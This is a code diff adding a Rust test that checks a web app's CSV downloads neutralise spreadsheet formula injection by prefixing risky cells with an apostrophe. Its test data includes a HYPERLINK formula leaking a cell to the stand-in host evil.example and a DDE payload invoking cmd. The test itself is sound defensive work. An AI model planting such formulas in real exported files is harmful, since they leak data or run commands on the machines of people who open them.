@@ -7,6 +7,80 @@ use axum::http::Request;
 
 use crate::common::{RecordBuilder, TestApp, TestResponse};
 
+/// The rows of a CSV response, header first.
+fn rows(response: &TestResponse) -> Vec<Vec<String>> {
+    assert_eq!(response.status, 200, "{}", response.body);
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(response.body.as_bytes());
+    reader
+        .records()
+        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// The field `name` of the first data row.
+fn field(rows: &[Vec<String>], name: &str) -> String {
+    let at = rows[0].iter().position(|h| h == name).expect(name);
+    rows[1][at].clone()
+}
+
+const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
+
+#[tokio::test]
+async fn csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_in_every_download() {
+    let app = TestApp::new().await;
+    let slug = RecordBuilder::new("2024-11-05", "@Stalking")
+        .question(FORMULA)
+        .evidence("+1+cmd|' /C calc'!A0")
+        .decision(scrutiny::domain::Decision::Assured)
+        .rationale("-2+3")
+        .action(FORMULA)
+        .owner("-5")
+        .progress("2024-11-20", "Done.")
+        .publish(&app.pool)
+        .await
+        .slug;
+
+    let record = rows(&app.get(&format!("/meetings/{slug}.csv")).await);
+    assert_eq!(field(&record, "question"), format!("'{FORMULA}"));
+    assert_eq!(field(&record, "evidence"), "'+1+cmd|' /C calc'!A0");
+    assert_eq!(field(&record, "decision_rationale"), "'-2+3");
+    assert_eq!(field(&record, "topic"), "'@Stalking");
+    assert_eq!(field(&record, "question_number"), "1", "numbers are untouched");
+    assert_eq!(field(&record, "held_on"), "2024-11-05", "dates are untouched");
+
+    let meetings = rows(&app.get("/meetings.csv").await);
+    assert_eq!(field(&meetings, "topic"), "'@Stalking");
+    assert_eq!(
+        field(&meetings, "slug"),
+        slug,
+        "a slug never starts with a formula"
+    );
+
+    let actions = rows(&app.get("/actions.csv").await);
+    assert_eq!(field(&actions, "text"), format!("'{FORMULA}"));
+    assert_eq!(field(&actions, "topic"), "'@Stalking");
+    assert_eq!(
+        field(&actions, "owner"),
+        "-5",
+        "a cell that is only a number holds no formula: left as it is"
+    );
+    assert_eq!(field(&actions, "progress"), "2024-11-20: Done.");
+
+    let json = app.get(&format!("/meetings/{slug}.json")).await;
+    assert!(
+        json.body.contains("\"text\":\"=HYPERLINK("),
+        "the JSON is exactly as published: {}",
+        json.body
+    );
+    let data = app.get("/data").await;
+    assert!(
+        data.prose("#csv-formulas")[0].contains("with an apostrophe ' in front"),
+        "/data says so"
+    );
+}
+
 /// Asserts that `response` is a 4xx page in the site's layout.
 fn assert_site_error(response: &TestResponse, what: &str) {
     assert!(
